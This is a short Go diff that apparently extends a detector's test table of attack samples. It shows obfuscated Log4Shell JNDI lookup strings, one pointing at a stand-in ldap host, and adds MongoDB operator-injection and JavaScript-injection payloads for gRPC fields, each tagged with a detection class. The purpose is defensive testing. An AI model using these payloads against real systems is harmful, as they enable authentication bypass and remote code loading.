@@ -39,6 +39,12 @@ func init() {
 		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
 		attackEntry{lQ, "q", "${${::-${::-$${::-j}}}}", "jndi-lookup", encURL},
 		attackEntry{lH, "x-api-version", "${ctx:loginId}${${ctx:loginId}}", "jndi-lookup", 0},
+		// MongoDB filters in gRPC fields: as JSON text, and as a
+		// google.protobuf.Struct's members (decoders/protobuf names them
+		// as JSON's).
+		attackEntry{lPB, "filter", `{"username": {"$ne": null}, "password": {"$ne": null}}`, "nosql-operator", 0},
+		attackEntry{lPB, "filter.username.$ne", "null", "nosql-operator", 0},
+		attackEntry{lPB, "q", "admin' && this.password.match(/.*/)//", "nosql-js", 0},
 	)
 	benign = append(benign,
 		// Multi-line text: words before the break, a plain word after it.
